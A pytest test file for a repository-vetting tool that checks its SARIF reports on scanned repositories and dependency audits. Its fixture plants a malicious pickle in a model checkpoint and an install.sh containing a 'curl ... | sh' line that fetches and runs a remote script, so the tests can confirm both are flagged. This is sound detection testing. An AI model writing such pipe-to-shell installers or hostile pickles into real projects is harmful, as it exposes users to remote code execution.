"""SARIF 2.1.0 from `vet` and `audit`, validated against the official SARIF 2.1.0 JSON schema
(shipped in the pinned npm package @microsoft/jest-sarif, tests/github/package.json)."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from forkvet.cli import main
from forkvet.sarif import FINGERPRINT_KEY, text
from tests.test_audit import REQUIREMENTS, write_db
from tests.test_risks import evil_pickle, torch_zip_checkpoint

ROOT = Path(__file__).resolve().parent.parent
SCHEMA = ROOT / "tests/github/node_modules/@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json"


@pytest.fixture(scope="session")
def sarif_schema() -> dict[str, Any]:
    if not SCHEMA.is_file():  # scripts/test.sh runs `npm ci` in tests/github first
        pytest.skip("SARIF schema not installed: run `npm ci` in tests/github")
    data: dict[str, Any] = json.loads(SCHEMA.read_text(encoding="utf-8"))
    return data


def validate(log: dict[str, Any], schema: dict[str, Any]) -> None:
    jsonschema.Draft4Validator(schema).validate(log)
    for run in log["runs"]:
        for result in run["results"]:
            # what code scanning needs beyond the schema (it rejects the whole file otherwise)
            (loc,) = result["locations"]
            assert loc["physicalLocation"]["artifactLocation"]["uri"]
            assert not loc["physicalLocation"]["artifactLocation"]["uri"].startswith("/")
            assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]


def hostile_repo(root: Path, extra: str = "") -> Path:
    (root / "release").mkdir(parents=True)
    (root / "release/model.pt").write_bytes(torch_zip_checkpoint(evil_pickle()))
    shutil.copy(ROOT / "tests/data/licenses/CC-BY-NC-4.0.txt", root / "LICENSE")
    (root / "install.sh").write_text(
        "#!/bin/sh\necho setup\ncurl -sSL https://example.org/x.sh | sh\n"
    )
    (root / "README.md").write_text("# model\n" + extra)
    (root / "train.py").write_text("import torch\n\nprint('train')\n")
    return root


def git(root: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *args],
        cwd=root,
        check=True,
        capture_output=True,
    )


def vet_sarif(root: Path, out: Path) -> tuple[int, dict[str, Any]]:
    code = main(["vet", str(root), "--format", "sarif", "--output", str(out)])
    data: dict[str, Any] = json.loads(out.read_text(encoding="utf-8"))
    return code, data


def test_vet_sarif_pickle_license_and_curl_pipe(
    tmp_path: Path, sarif_schema: dict[str, Any]
) -> None:
    repo = hostile_repo(tmp_path / "repo")
    code, log = vet_sarif(repo, tmp_path / "vet.sarif")
    assert code == 1
    validate(log, sarif_schema)
    assert log["version"] == "2.1.0"
    run = log["runs"][0]
    rules = {r["id"]: r for r in run["tool"]["driver"]["rules"]}
    by_rule = {r["ruleId"]: r for r in run["results"]}
    pickle_r = by_rule["risks/dangerous-pickle"]
    assert pickle_r["level"] == "error"
    loc = pickle_r["locations"][0]["physicalLocation"]
    assert loc["artifactLocation"]["uri"] == "release/model.pt"
    assert "archive/data.pkl" in pickle_r["message"]["text"]  # the member inside the archive
    assert rules["risks/dangerous-pickle"]["helpUri"].endswith("security.md#the-pickle-rules")
    assert rules["risks/dangerous-pickle"]["properties"]["security-severity"] == "8.0"
    lic = by_rule["license/license-is-non-commercial"]
    assert lic["level"] == "warning"
    assert lic["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "LICENSE"
    curl = by_rule["risks/curl-pipe-shell"]
    assert curl["level"] == "warning"
    assert curl["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "install.sh"
    assert curl["locations"][0]["physicalLocation"]["region"]["startLine"] == 3
    # every notice is a note; every result has a fingerprint
    assert {r["level"] for r in run["results"]} <= {"error", "warning", "note"}
    assert all(FINGERPRINT_KEY in r["partialFingerprints"] for r in run["results"])
    # the JSON report and the SARIF file agree on what was found
    assert len(run["results"]) >= 3


def test_fingerprints_survive_moved_lines_and_new_commits(
    tmp_path: Path, sarif_schema: dict[str, Any]
) -> None:
    repo = hostile_repo(tmp_path / "repo")
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    _, first = vet_sarif(repo, tmp_path / "a.sarif")
    # lines above the curl line move it; a new commit
    (repo / "install.sh").write_text(
        "#!/bin/sh\n# more\n# setup\necho setup\ncurl -sSL https://example.org/x.sh | sh\n"
    )
    git(repo, "commit", "-qam", "two")
    _, second = vet_sarif(repo, tmp_path / "b.sarif")
    validate(second, sarif_schema)

    def prints(log: dict[str, Any]) -> dict[str, str]:
        return {
            r["ruleId"]: r["partialFingerprints"][FINGERPRINT_KEY]
            for r in log["runs"][0]["results"]
        }

    a, b = prints(first), prints(second)
    assert a["risks/curl-pipe-shell"] == b["risks/curl-pipe-shell"]
    assert a["risks/dangerous-pickle"] == b["risks/dangerous-pickle"]
    line = second["runs"][0]["results"]
    curl = next(r for r in line if r["ruleId"] == "risks/curl-pipe-shell")
    assert curl["locations"][0]["physicalLocation"]["region"]["startLine"] == 5
    assert "versionControlProvenance" not in second["runs"][0]  # no https remote to name


def test_repository_text_cannot_form_links(tmp_path: Path) -> None:
    assert text("see [here](https://evil.example)\x1b[31m\u202e") == (
        "see \\[here\\](https://evil.example) \\[31m\\\\u202e"
    )


def test_audit_sarif_points_at_the_pins(
    tmp_path: Path,
    sarif_schema: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    db = write_db(tmp_path / "osv")
    env = tmp_path / "env"
    env.mkdir()
    (env / "requirements.txt").write_text(REQUIREMENTS)
    monkeypatch.chdir(tmp_path)
    code = main(
        ["audit", "env/requirements.txt", "--vuln-db", str(db), "--no-index", "--format", "sarif"]
    )
    log = json.loads(capsys.readouterr().out)
    assert code == 0
    validate(log, sarif_schema)
    results = {r["ruleId"]: r for r in log["runs"][0]["results"]}
    torch = results["GHSA-53q9-r3pm-6pq6"]
    assert torch["level"] == "error"  # critical
    phys = torch["locations"][0]["physicalLocation"]
    assert phys["artifactLocation"]["uri"] == "env/requirements.txt"
    assert phys["region"]["startLine"] == 2
    numpy = next(r for r in results.values() if r["properties"]["package"] == "numpy")
    assert numpy["level"] == "warning"  # medium
    rule = log["runs"][0]["tool"]["driver"]["rules"][torch["ruleIndex"]]
    assert rule["properties"]["security-severity"] == "9.5"
    # --output writes the same log to a file
    out = tmp_path / "audit.sarif"
    main(
        [
            "audit",
            "env/requirements.txt",
            "--vuln-db",
            str(db),
            "--no-index",
            "--format",
            "sarif",
            "--output",
            str(out),
        ]
    )
    assert json.loads(out.read_text())["runs"][0]["results"] == log["runs"][0]["results"]


def test_uri_names_the_file_on_disk_one_to_one() -> None:
    """A report shows names one-to-one (`\\\\` for a backslash, `\\xNN` for a byte that is
    not UTF-8); the SARIF location must point at that same file, never a neighbour."""
    from forkvet.sarif import uri
    from forkvet.snapshot import name_bytes, shown_name

    names = [b"a\\b.py", b"a/b.py", b"\xff.pkl", b"\\xff.pkl", b"dir/\xc3\xa9t\xc3\xa9 x.pt"]
    uris = [uri(shown_name(n)) for n in names]
    assert uris == ["a%5Cb.py", "a/b.py", "%FF.pkl", "%5Cxff.pkl", "dir/%C3%A9t%C3%A9%20x.pt"]
    assert all(name_bytes(shown_name(n)) == n for n in names)
